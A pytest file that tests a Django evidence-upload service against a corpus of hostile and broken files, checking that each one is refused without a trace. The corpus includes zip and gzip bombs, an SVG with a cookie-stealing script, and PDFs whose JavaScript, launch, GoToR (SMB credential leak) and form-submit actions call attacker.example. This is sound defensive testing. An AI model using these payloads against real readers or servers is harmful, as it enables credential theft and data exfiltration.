"""Evidence uploads against a corpus of hostile and awkward files, through the API and the browser form alike.

A refused file leaves no trace: no attachment, no timeline event, not a byte on disk, and the evidence already
stored is untouched. An accepted file lands under a generated hex name in MEDIA_ROOT/evidence with a cleaned
display name; JPEG and PNG images are kept re-encoded without their metadata, PDF and MP4 files byte for byte once
their structure proved them (a PDF opens strictly, has pages, ends at %%EOF and has no JavaScript, launch action,
embedded file, rich media or XFA form; an MP4's boxes cover the file exactly, with a movie header), and the size
and SHA-256 recorded are those of the bytes on disk. The files are real ones, built here; names travel on the wire
exactly as given.
"""

import functools
import gzip
import hashlib
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager, nullcontext
from pathlib import Path
from typing import NamedTuple
from unittest import mock
from urllib.parse import quote

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.template.defaultfilters import filesizeformat
from django.urls import reverse
from django.utils.html import escape
from PIL import ExifTags, Image, ImageCms, PngImagePlugin
from pypdf import PdfReader
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, NameObject, NumberObject, TextStringObject
from rest_framework.test import APIClient

from accounts import tokens
from cases import evidence, services
from cases.choices import CaseStatus
from cases.models import Attachment, Case, CaseEvent
from tests.evidence_files import (
    ONE_PAGE,
    box,
    ftyp,
    mp4_video,
    mvhd,
    pdf_document,
    pdf_with_compressed_objects,
    pdf_with_open_action,
    pdf_writer,
    raw_pdf,
    raw_pdf_with_catalog,
    written,
)
from tests.factories import World, case_in

BOUNDARY = "RightsGuardCorpusBoundary"
# The code the API gives with each status of a file that cannot be kept now.
CANNOT_KEEP_CODES = {error.status: error.code for error in (evidence.StorageFull, evidence.ScanUnavailable)}
WRONG_TYPE = (
    "Only JPEG, PNG, PDF and MP4 files are accepted, and this file's content is none of them "
    "(the file name and the declared type are not taken into account)."
)
EMPTY = "The submitted file is empty."  # Django's and DRF's own check, before the evidence store sees the file
UNREADABLE = "The image could not be read completely; it may be damaged or truncated."
TOO_MANY_PIXELS = "The image has too many pixels; at most 60,000,000 pixels are accepted."
ANIMATED = "Animated PNG images are not accepted; upload a recording as an MP4 video."
PDF_UNREADABLE = "The PDF file could not be read completely; it may be damaged or truncated."
PDF_UNENDED = "The PDF file does not end with its end-of-file marker; it may be truncated or have data appended."
PDF_NO_PAGES = "The PDF file has no pages."
PDF_PASSWORD = "The PDF file is protected by a password; remove the password and upload it again."
PDF_JAVASCRIPT = (
    "The PDF file contains JavaScript, which is not accepted; print it to a new PDF and upload that instead."
)
PDF_LAUNCH = (
    "The PDF file contains an action that starts another program, which is not accepted; print it to a new PDF "
    "and upload that instead."
)
PDF_REMOTE = (
    "The PDF file contains an action that opens another document or sends or fetches form data, which is not "
    "accepted; print it to a new PDF and upload that instead."
)
PDF_MEDIA = (
    "The PDF file contains sound or video that a viewer would play, which is not accepted; print it to a new PDF "
    "and upload that instead."
)
PDF_EMBEDDED = "The PDF file contains embedded files, which are not accepted; upload each file on its own instead."
PDF_RICH_MEDIA = (
    "The PDF file contains rich media (Flash, video or 3D content), which is not accepted; print it to a new PDF "
    "and upload that instead."
)
PDF_XFA = "The PDF file contains an XFA form, which is not accepted; print it to a new PDF and upload that instead."
MP4_BROKEN = "The video could not be read as an MP4 file; it may be damaged, truncated or have other data appended."
MP4_NO_MOVIE = "The MP4 file has no movie header, so it cannot be played; it may be a recording that was not finished."
# What Pillow writes for a JPEG without metadata: the JFIF header and nothing else.
BARE_JPEG_INFO = {"jfif": 257, "jfif_version": (1, 1), "jfif_unit": 0, "jfif_density": (1, 1)}
HEX = frozenset("0123456789abcdef")


# --- the corpus -------------------------------------------------------------------------------------------------


@functools.cache
def pdf(size: int) -> bytes:
    """A valid PDF of exactly ``size`` bytes (PDFs are stored as received)."""
    return pdf_document(size)


def halves(size: tuple[int, int] = (64, 48)) -> Image.Image:
    """Left half red, right half blue: orientation shows in where the colours end up."""
    picture = Image.new("RGB", size, (220, 20, 20))
    picture.paste((20, 20, 220), (size[0] // 2, 0, size[0], size[1]))
    return picture


def noise(size: tuple[int, int], seed: int = 7) -> Image.Image:
    return Image.frombytes("RGB", size, random.Random(seed).randbytes(size[0] * size[1] * 3))


def encoded(picture: Image.Image, image_format: str, **options) -> bytes:
    out = io.BytesIO()
    picture.save(out, image_format, **options)
    return out.getvalue()


def reencoded_jpeg(content: bytes) -> bytes:
    """The evidence store's rendering of a JPEG without an orientation: its pixels at the store's quality."""
    with Image.open(io.BytesIO(content)) as picture:
        picture.load()
        bare = picture.copy()
    bare.info = {}  # Pillow would otherwise carry a JPEG comment over
    return encoded(bare, "JPEG", quality=evidence.JPEG_QUALITY)


JPEG = encoded(halves(), "JPEG", quality=90)
SRGB_PROFILE = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def gps_photo(orientation: int | None = None) -> bytes:
    """A phone photo as it leaves the phone: make, time, GPS position, XMP, a comment and a colour profile."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneCo"
    exif[ExifTags.Base.Model] = "PhoneCo X9"
    exif[ExifTags.Base.DateTime] = "2026:03:01 21:14:05"
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (30.0, 15.0, 33.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (120.0, 9.0, 57.0)
    gps[ExifTags.GPS.GPSMapDatum] = "WGS-84"
    return encoded(
        halves(),
        "JPEG",
        quality=90,
        exif=exif,
        comment=b"taken at home",
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">secret-xmp-location</x:xmpmeta>',
        icc_profile=SRGB_PROFILE,
    )


def png_chunks(content: bytes) -> list[bytes]:
    """The chunk types of a PNG, in order."""
    kinds, at = [], 8
    while at < len(content):
        (length,) = struct.unpack(">I", content[at : at + 4])
        kinds.append(content[at + 4 : at + 8])
        at += 12 + length
    return kinds


def jpeg_markers(content: bytes) -> list[int]:
    """The marker codes of a JPEG's header segments, up to the start of the scan."""
    markers, at = [], 2
    while True:
        marker = content[at + 1]
        markers.append(marker)
        if marker == 0xDA:
            return markers
        (length,) = struct.unpack(">H", content[at + 2 : at + 4])
        at += 2 + length


def png_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "filmed from the window of flat 1201")
    info.add_text("Location", "30.2592N 120.1658E", zip=True)
    info.add_itxt("Author", "王警官", lang="zh", tkey="作者")
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneCo"
    return encoded(halves(), "PNG", pnginfo=info, exif=exif, icc_profile=SRGB_PROFILE)


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that announces ``width``×``height`` pixels with almost no data: a decompression bomb's header."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims ``width``×``height`` pixels."""
    content = bytearray(JPEG)
    sof = content.index(b"\xff\xc0")
    content[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def animated_png() -> bytes:
    frames = [halves(), halves().transpose(Image.Transpose.FLIP_LEFT_RIGHT)]
    return encoded(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=500)


@functools.cache
def zip_bomb() -> bytes:
    """64 MiB of zeros deflated into a ZIP of about 64 KiB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive, archive.open("zeros.bin", "w") as f:
        for _ in range(64):
            f.write(bytes(1024 * 1024))
    return out.getvalue()


@functools.cache
def gzip_bomb() -> bytes:
    return gzip.compress(bytes(64 * 1024 * 1024), compresslevel=9)


NOISY_PNG = encoded(noise((64, 64)), "PNG")
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(64)
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64)


HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/cases/').then(r => r.text())</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)


PDF = pdf_document()
SCRIPT = TextStringObject("app.launchURL('https://attacker.example/?' + this.info.Title, true);")


def pdf_names_javascript() -> bytes:
    """Document-level JavaScript in the catalog's names tree, as pypdf's add_open_action writes it."""
    writer = pdf_writer()
    writer.add_open_action(JavaScript(str(SCRIPT)))
    return written(writer)


def pdf_embedded_file() -> bytes:
    writer = pdf_writer()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00" + bytes(60))
    return written(writer)


def pdf_password_protected() -> bytes:
    writer = pdf_writer()
    writer.encrypt("secret", algorithm="AES-256")
    return written(writer)


def pdf_with_page(page_extra: bytes, *more: bytes) -> bytes:
    """A one-page PDF whose page has ``page_extra`` entries; ``more`` are objects 4, 5, …"""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        ONE_PAGE[0],
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b" >>",
        *more,
    )


def mp4_with_sizes_past_the_end() -> bytes:
    """The media box claims 1000 bytes more than the file holds."""
    video = bytearray(mp4_video())
    at = video.index(b"mdat") - 4
    (size,) = struct.unpack(">I", video[at : at + 4])
    video[at : at + 4] = struct.pack(">I", size + 1000)
    return bytes(video)


class Refusal(NamedTuple):
    label: str
    build: Callable[[], bytes]
    name: str
    content_type: str
    message: str
    code: str
    archive: bool = False


REFUSED = [
    Refusal("html-named-pdf", lambda: HTML, "report.pdf", "application/pdf", WRONG_TYPE, "file_type_not_allowed"),
    Refusal("svg-with-script", lambda: SVG, "scene.svg", "image/svg+xml", WRONG_TYPE, "file_type_not_allowed"),
    Refusal("svg-named-png", lambda: SVG, "scene.png", "image/png", WRONG_TYPE, "file_type_not_allowed"),
    Refusal("zip-bomb", zip_bomb, "evidence.zip", "application/zip", WRONG_TYPE, "file_type_not_allowed", True),
    Refusal("zip-bomb-named-jpg", zip_bomb, "photo.jpg", "image/jpeg", WRONG_TYPE, "file_type_not_allowed", True),
    Refusal("zip-named-pdf", zip_bomb, "report.pdf", "application/pdf", WRONG_TYPE, "file_type_not_allowed", True),
    Refusal("gzip-bomb", gzip_bomb, "report.pdf.gz", "application/gzip", WRONG_TYPE, "file_type_not_allowed", True),
    Refusal("rar", lambda: RAR, "photos.rar", "application/vnd.rar", WRONG_TYPE, "file_type_not_allowed", True),
    Refusal(
        "7z", lambda: SEVEN_ZIP, "photos.7z", "application/x-7z-compressed", WRONG_TYPE, "file_type_not_allowed", True
    ),
    Refusal("jpeg-truncated", lambda: JPEG[: len(JPEG) // 2], "photo.jpg", "image/jpeg", UNREADABLE, "image_invalid"),
    Refusal("jpeg-header-only", lambda: JPEG[:20], "photo.jpg", "image/jpeg", UNREADABLE, "image_invalid"),
    Refusal(
        "png-truncated",
        lambda: NOISY_PNG[: len(NOISY_PNG) // 2],
        "screen.png",
        "image/png",
        UNREADABLE,
        "image_invalid",
    ),
    Refusal("png-without-end", lambda: NOISY_PNG[:-12], "screen.png", "image/png", UNREADABLE, "image_invalid"),
    Refusal(
        "png-70-megapixels",
        lambda: png_header_only(10_000, 7_000),
        "screen.png",
        "image/png",
        TOO_MANY_PIXELS,
        "image_too_large",
    ),
    Refusal(
        "png-120-megapixels",
        lambda: png_header_only(12_000, 10_000),
        "screen.png",
        "image/png",
        TOO_MANY_PIXELS,
        "image_too_large",
    ),
    Refusal(
        "png-10-gigapixels",
        lambda: png_header_only(100_000, 100_000),
        "screen.png",
        "image/png",
        TOO_MANY_PIXELS,
        "image_too_large",
    ),
    Refusal(
        "jpeg-3.6-gigapixels",
        lambda: jpeg_claiming(60_000, 60_000),
        "photo.jpg",
        "image/jpeg",
        TOO_MANY_PIXELS,
        "image_too_large",
    ),
    Refusal("animated-png", animated_png, "clip.png", "image/png", ANIMATED, "image_animated"),
    # PDFs: the first bytes are not enough, the file must parse strictly and carry no active content.
    Refusal(
        "pdf-header-then-html",
        lambda: b"%PDF-1.7\n" + HTML,
        "report.pdf",
        "application/pdf",
        PDF_UNENDED,
        "pdf_invalid",
    ),
    Refusal(
        "pdf-header-then-html-then-eof",
        lambda: b"%PDF-1.7\n" + HTML + b"\n%%EOF\n",
        "report.pdf",
        "application/pdf",
        PDF_UNREADABLE,
        "pdf_invalid",
    ),
    Refusal("pdf-then-html", lambda: PDF + HTML, "report.pdf", "application/pdf", PDF_UNENDED, "pdf_invalid"),
    Refusal("pdf-truncated", lambda: PDF[: len(PDF) // 2], "report.pdf", "application/pdf", PDF_UNENDED, "pdf_invalid"),
    Refusal(
        "pdf-truncated-with-eof-marker",
        lambda: PDF[: len(PDF) // 2] + b"\n%%EOF\n",
        "report.pdf",
        "application/pdf",
        PDF_UNREADABLE,
        "pdf_invalid",
    ),
    Refusal(
        "pdf-without-pages",
        lambda: raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"),
        "report.pdf",
        "application/pdf",
        PDF_NO_PAGES,
        "pdf_invalid",
    ),
    Refusal(
        "pdf-with-password", pdf_password_protected, "report.pdf", "application/pdf", PDF_PASSWORD, "pdf_encrypted"
    ),
    Refusal(
        "pdf-open-action-javascript",
        lambda: pdf_with_open_action({"/S": NameObject("/JavaScript"), "/JS": SCRIPT}),
        "report.pdf",
        "application/pdf",
        PDF_JAVASCRIPT,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-names-tree-javascript",
        pdf_names_javascript,
        "report.pdf",
        "application/pdf",
        PDF_JAVASCRIPT,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-javascript-behind-escaped-names",
        lambda: raw_pdf_with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "report.pdf",
        "application/pdf",
        PDF_JAVASCRIPT,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-javascript-in-compressed-object-stream",
        lambda: pdf_with_compressed_objects(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "report.pdf",
        "application/pdf",
        PDF_JAVASCRIPT,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-page-open-javascript",
        lambda: pdf_with_page(b"/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>"),
        "report.pdf",
        "application/pdf",
        PDF_JAVASCRIPT,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-launch-action",
        lambda: pdf_with_open_action({"/S": NameObject("/Launch"), "/F": TextStringObject("C:\\Windows\\cmd.exe")}),
        "report.pdf",
        "application/pdf",
        PDF_LAUNCH,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-launch-in-link",
        lambda: pdf_with_page(
            b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (run.sh) >> >>]"
        ),
        "report.pdf",
        "application/pdf",
        PDF_LAUNCH,
        "pdf_active_content",
    ),
    # Actions that reach another document or send form data: opening or clicking makes a request elsewhere (an
    # SMB path leaks the reader's Windows credentials).
    Refusal(
        "pdf-gotor-open-action",
        lambda: pdf_with_open_action(
            {
                "/S": NameObject("/GoToR"),
                "/F": TextStringObject("\\\\attacker.example\\share\\report.pdf"),
                "/D": ArrayObject([NumberObject(0), NameObject("/Fit")]),
            }
        ),
        "report.pdf",
        "application/pdf",
        PDF_REMOTE,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-gotoe-in-link",
        lambda: pdf_with_page(
            b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] "
            b"/A << /S /GoToE /D [0 /Fit] /T << /R /C /N (attached.pdf) >> >> >>]"
        ),
        "report.pdf",
        "application/pdf",
        PDF_REMOTE,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-submit-form-on-page-close",
        lambda: pdf_with_page(b"/AA << /C << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >> >>"),
        "report.pdf",
        "application/pdf",
        PDF_REMOTE,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-import-data-behind-escaped-name",
        lambda: raw_pdf_with_catalog(b"/OpenAction << /S /Import#44ata /F (https://attacker.example/data.fdf) >>"),
        "report.pdf",
        "application/pdf",
        PDF_REMOTE,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-gotor-in-compressed-object-stream",
        lambda: pdf_with_compressed_objects(b"/OpenAction << /S /GoToR /F (//attacker.example/x.pdf) /D [0 /Fit] >>"),
        "report.pdf",
        "application/pdf",
        PDF_REMOTE,
        "pdf_active_content",
    ),
    # Media a viewer plays (and may fetch): sound, movie and rendition actions and annotations.
    Refusal(
        "pdf-sound-open-action",
        lambda: raw_pdf_with_catalog(
            b"/OpenAction << /S /Sound /Sound 4 0 R >>",
            b"<< /Type /Sound /R 8000 /Length 4 >>\nstream\n\x00\x00\x00\x00\nendstream",
        ),
        "report.pdf",
        "application/pdf",
        PDF_MEDIA,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-movie-annotation",
        lambda: pdf_with_page(
            b"/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 99 99] "
            b"/Movie << /F (https://attacker.example/m) >> >>]"
        ),
        "report.pdf",
        "application/pdf",
        PDF_MEDIA,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-rendition-action",
        lambda: pdf_with_page(
            b"/AA << /O << /S /Rendition /OP 0 "
            b"/R << /S /MR /C << /S /MCD /D (https://attacker.example/v.mp4) >> >> >> >>"
        ),
        "report.pdf",
        "application/pdf",
        PDF_MEDIA,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-embedded-file", pdf_embedded_file, "report.pdf", "application/pdf", PDF_EMBEDDED, "pdf_active_content"
    ),
    Refusal(
        "pdf-rich-media",
        lambda: pdf_with_page(b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>]"),
        "report.pdf",
        "application/pdf",
        PDF_RICH_MEDIA,
        "pdf_active_content",
    ),
    Refusal(
        "pdf-xfa-form",
        lambda: raw_pdf_with_catalog(
            b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream"
        ),
        "report.pdf",
        "application/pdf",
        PDF_XFA,
        "pdf_active_content",
    ),
    # MP4: the boxes must cover the file exactly, with a movie.
    Refusal("mp4-box-past-the-end", mp4_with_sizes_past_the_end, "bodycam.mp4", "video/mp4", MP4_BROKEN, "mp4_invalid"),
    Refusal("mp4-truncated", lambda: mp4_video()[:-10], "bodycam.mp4", "video/mp4", MP4_BROKEN, "mp4_invalid"),
    Refusal(
        "mp4-trailing-garbage",
        lambda: mp4_video() + b"\x00garbage",
        "bodycam.mp4",
        "video/mp4",
        MP4_BROKEN,
        "mp4_invalid",
    ),
    Refusal("mp4-then-html", lambda: mp4_video() + HTML, "bodycam.mp4", "video/mp4", MP4_BROKEN, "mp4_invalid"),
    Refusal("mp4-ftyp-then-html", lambda: ftyp() + HTML, "bodycam.mp4", "video/mp4", MP4_BROKEN, "mp4_invalid"),
    Refusal(
        "mp4-box-smaller-than-its-header",
        lambda: ftyp() + struct.pack(">I4s", 4, b"free") + box(b"moov", mvhd()),
        "bodycam.mp4",
        "video/mp4",
        MP4_BROKEN,
        "mp4_invalid",
    ),
    Refusal(
        "mp4-movie-child-past-the-movie",
        lambda: ftyp() + box(b"moov", mvhd()[:-4]) + box(b"mdat", b"x" * 16),
        "bodycam.mp4",
        "video/mp4",
        MP4_BROKEN,
        "mp4_invalid",
    ),
    Refusal(
        "mp4-without-movie",
        lambda: ftyp() + box(b"mdat", b"x" * 64),
        "bodycam.mp4",
        "video/mp4",
        MP4_NO_MOVIE,
        "mp4_invalid",
    ),
    Refusal(
        "mp4-movie-without-header",
        lambda: ftyp() + box(b"moov", box(b"trak", box(b"tkhd", bytes(84)))) + box(b"mdat", b"x" * 64),
        "bodycam.mp4",
        "video/mp4",
        MP4_NO_MOVIE,
        "mp4_invalid",
    ),
]


# --- sending files the way clients do ---------------------------------------------------------------------------


def multipart(content: bytes, name: str, content_type: str, *, plain_name: bool = False) -> bytes:
    """A multipart body with one file. The name goes as an RFC 5987 parameter, so control characters and
    non-ASCII reach the server exactly as given; ``plain_name`` sends it quoted, as browsers do."""
    parameter = f'filename="{name}"' if plain_name else f"filename*=UTF-8''{quote(name, safe='')}"
    head = (
        f"--{BOUNDARY}\r\n"
        f'Content-Disposition: form-data; name="file"; {parameter}\r\n'
        f"Content-Type: {content_type}\r\n\r\n"
    )
    return head.encode() + content + f"\r\n--{BOUNDARY}--\r\n".encode()


class Channel:
    """The filing officer uploading to ``case`` through the API or the browser form; ``media`` is MEDIA_ROOT."""

    def __init__(self, kind: str, world: World, case: Case, browser, media: Path) -> None:
        self.kind, self.case, self.media = kind, case, media
        if kind == "api":
            self.http = APIClient()
            _token, key = tokens.issue_token(user=world.officer, name="upload corpus", mfa_verified=True)
            self.http.credentials(HTTP_AUTHORIZATION=f"Token {key}")
            self.url = f"/api/v1/cases/{case.pk}/attachments/"
        else:
            self.http = browser
            self.http.force_login(world.officer)
            self.url = reverse("cases:evidence-upload", args=[case.pk])

    def send(
        self, content: bytes, name: str = "evidence", content_type: str = "application/octet-stream", **kw
    ) -> HttpResponse:
        body = multipart(content, name, content_type, **kw)
        return self.http.post(self.url, data=body, content_type=f"multipart/form-data; boundary={BOUNDARY}")

    def assert_refused(self, response: HttpResponse, message: str, *, status: int = 400) -> None:
        """Refused with ``status`` and ``message``: 400 for the file itself, or the status of an
        ``evidence.CannotKeep`` (the store or the scanner cannot take it now)."""
        assert response.status_code == status, response.content
        if self.kind == "api":
            body = response.json()
            if status == 400:
                assert body["errors"] == {"file": [message]}
            else:
                assert body == {"code": CANNOT_KEEP_CODES[status], "detail": message}
        else:
            page = response.content.decode()
            assert page.count(escape(message)) == 1
            assert 'id="id_file"' in page  # the form is shown again, with the error next to the file field

    def assert_refused_without_a_trace(
        self, content: bytes, name: str, content_type: str, message: str, *, status: int = 400
    ) -> tuple[int, int, dict[str, str]]:
        """Send the file, see it refused (``assert_refused``), and find no attachment, event or file that was not
        there before, and none of those that were gone. Returns what was there before."""
        before = trace(self.case, self.media)
        self.assert_refused(self.send(content, name, content_type), message, status=status)
        assert trace(self.case, self.media) == before
        return before

    def assert_accepted(self, response: HttpResponse) -> Attachment:
        if self.kind == "api":
            assert response.status_code == 201, response.content
            body = response.json()
            attachment = Attachment.objects.get(pk=body["id"])
            assert (body["original_name"], body["content_type"], body["size"], body["sha256"]) == (
                attachment.original_name,
                attachment.content_type,
                attachment.size,
                attachment.sha256,
            )
        else:
            assert response.status_code == 302, response.content
            assert response["Location"] == reverse("cases:detail", args=[self.case.pk])
            attachment = Attachment.objects.latest("id")
        assert attachment.case_id == self.case.pk
        return attachment


@pytest.fixture
def media(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def case(world) -> Case:
    return case_in(world, CaseStatus.INTAKE)


@pytest.fixture(params=["api", "browser"])
def channel(request, world, case, media, client) -> Channel:
    return Channel(request.param, world, case, client, media)


@pytest.fixture
def existing(world, case, media) -> Attachment:
    """Evidence the case already holds, so a refusal can be seen to leave it alone."""
    stored = evidence.validate_and_store(SimpleUploadedFile("earlier.pdf", pdf(500)), case=case)
    return services.record_attachment(case=case, by=world.officer, **stored.attachment_fields())


def disk(media: Path) -> dict[str, str]:
    """Every file under MEDIA_ROOT with the SHA-256 of its bytes."""
    if not media.exists():
        return {}
    return {
        str(p.relative_to(media)): hashlib.sha256(p.read_bytes()).hexdigest() for p in media.rglob("*") if p.is_file()
    }


def trace(case: Case, media: Path) -> tuple[int, int, dict[str, str]]:
    return Attachment.objects.count(), CaseEvent.objects.filter(case=case).count(), disk(media)


@contextmanager
def no_decompression() -> Iterator[None]:
    """Fail loudly if anything opens the upload as an archive while the block runs. (zlib itself stays: Django
    inflates its own signed session data with it.)"""
    opened = AssertionError("an archive was opened")
    with (
        mock.patch.object(zipfile, "ZipFile", side_effect=opened) as zip_opened,
        mock.patch.object(gzip, "GzipFile", side_effect=opened) as gzip_opened,
        mock.patch.object(gzip, "decompress", side_effect=opened) as gzip_inflated,
    ):
        yield
    assert (zip_opened.call_count, gzip_opened.call_count, gzip_inflated.call_count) == (0, 0, 0)


def stored_bytes(attachment: Attachment) -> bytes:
    return evidence.path_of(attachment.stored_name).read_bytes()


def assert_stored_as_recorded(attachment: Attachment, media: Path) -> bytes:
    """The file is under a generated hex name in MEDIA_ROOT/evidence, and the recorded size and digest are the
    bytes on disk."""
    path = evidence.path_of(attachment.stored_name)
    assert (len(attachment.stored_name), set(attachment.stored_name) <= HEX) == (32, True)
    assert path.parent == media / "evidence"
    content = path.read_bytes()
    assert (attachment.size, attachment.sha256) == (len(content), hashlib.sha256(content).hexdigest())
    return content


# --- refusals ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("refusal", [pytest.param(r, id=r.label) for r in REFUSED])
def test_hostile_and_broken_files_are_refused_without_a_trace(channel, case, media, existing, refusal):
    content = refusal.build()
    with no_decompression() if refusal.archive else nullcontext():
        before = channel.assert_refused_without_a_trace(content, refusal.name, refusal.content_type, refusal.message)
    assert list(before[2]) == [f"evidence/{existing.stored_name}"]


@pytest.mark.parametrize("refusal", [pytest.param(r, id=r.label) for r in REFUSED])
def test_each_refusal_carries_its_code(case, media, refusal):
    with pytest.raises(ValidationError) as refused:
        evidence.validate_and_store(SimpleUploadedFile("upload", refusal.build()), case=case)
    assert [e.code for e in refused.value.error_dict["file"]] == [refusal.code]
    assert disk(media) == {}


def test_an_empty_file_is_refused(channel, case, media, existing):
    channel.assert_refused_without_a_trace(b"", "photo.jpg", "image/jpeg", EMPTY)


def test_the_store_refuses_an_empty_file_itself(case, media):
    with pytest.raises(ValidationError) as refused:
        evidence.validate_and_store(SimpleUploadedFile("photo.jpg", b""), case=case)
    assert [(e.code, e.message) for e in refused.value.error_dict["file"]] == [("file_empty", "The file is empty.")]
    assert disk(media) == {}


def test_a_file_over_the_size_cap_is_refused_and_one_at_the_cap_accepted(channel, case, media, existing, settings):
    settings.RIGHTSGUARD_MAX_UPLOAD_BYTES = 1000
    too_big = "The file is larger than the 1000\xa0bytes allowed."
    photo = encoded(noise((64, 64)), "JPEG", quality=90)
    assert len(photo) > 1000
    for content, name in ((pdf(1001), "report.pdf"), (photo, "photo.jpg"), (pdf(50_000), "scan.pdf")):
        channel.assert_refused_without_a_trace(content, name, "application/octet-stream", too_big)
    attachment = channel.assert_accepted(channel.send(pdf(1000), "report.pdf"))
    assert stored_bytes(attachment) == pdf(1000)


def test_images_over_the_pixel_limit_are_refused(channel, case, media, existing, settings):
    settings.RIGHTSGUARD_MAX_IMAGE_PIXELS = 64 * 48 - 1
    channel.assert_refused_without_a_trace(
        JPEG, "photo.jpg", "image/jpeg", "The image has too many pixels; at most 3,071 pixels are accepted."
    )
    settings.RIGHTSGUARD_MAX_IMAGE_PIXELS = 64 * 48
    attachment = channel.assert_accepted(channel.send(JPEG, "photo.jpg", "image/jpeg"))
    assert Image.open(evidence.path_of(attachment.stored_name)).size == (64, 48)


def test_the_evidence_a_case_may_hold_is_capped(channel, case, media, settings):
    settings.RIGHTSGUARD_MAX_CASE_EVIDENCE_BYTES = 3000
    first = channel.assert_accepted(channel.send(pdf(2000), "first.pdf"))
    assert first.size == 2000
    channel.assert_refused_without_a_trace(
        pdf(1001),
        "second.pdf",
        "application/octet-stream",
        "This case already holds 2.0\xa0KB of evidence; the limit per case is 2.9\xa0KB.",
    )
    # Exactly the room that is left fits.
    channel.assert_accepted(channel.send(pdf(1000), "second.pdf"))
    channel.assert_refused_without_a_trace(
        pdf(500),
        "third.pdf",
        "application/octet-stream",
        "This case already holds 2.9\xa0KB of evidence; the limit per case is 2.9\xa0KB.",
    )
    assert sorted(Attachment.objects.filter(case=case).values_list("original_name", "size")) == [
        ("first.pdf", 2000),
        ("second.pdf", 1000),
    ]


def test_the_case_cap_counts_an_image_as_it_is_stored(channel, case, media, settings):
    """A rough JPEG grows when re-encoded at the store's quality; the case must have room for what is kept."""
    rough = encoded(noise((64, 64)), "JPEG", quality=30)
    kept = reencoded_jpeg(rough)
    assert len(kept) > len(rough)
    settings.RIGHTSGUARD_MAX_CASE_EVIDENCE_BYTES = len(rough)
    channel.assert_refused_without_a_trace(
        rough,
        "photo.jpg",
        "image/jpeg",
        f"This case already holds 0\xa0bytes of evidence; the limit per case is {filesizeformat(len(rough))}.",
    )
    settings.RIGHTSGUARD_MAX_CASE_EVIDENCE_BYTES = len(kept)
    attachment = channel.assert_accepted(channel.send(rough, "photo.jpg", "image/jpeg"))
    assert stored_bytes(attachment) == kept


def test_other_cases_evidence_does_not_count(world, channel, case, media, settings):
    settings.RIGHTSGUARD_MAX_CASE_EVIDENCE_BYTES = 3000
    other = case_in(world, CaseStatus.INTAKE)
    stored = evidence.validate_and_store(SimpleUploadedFile("other.pdf", pdf(2999)), case=other)
    services.record_attachment(case=other, by=world.officer, **stored.attachment_fields())
    attachment = channel.assert_accepted(channel.send(pdf(2999), "mine.pdf"))
    assert attachment.size == 2999


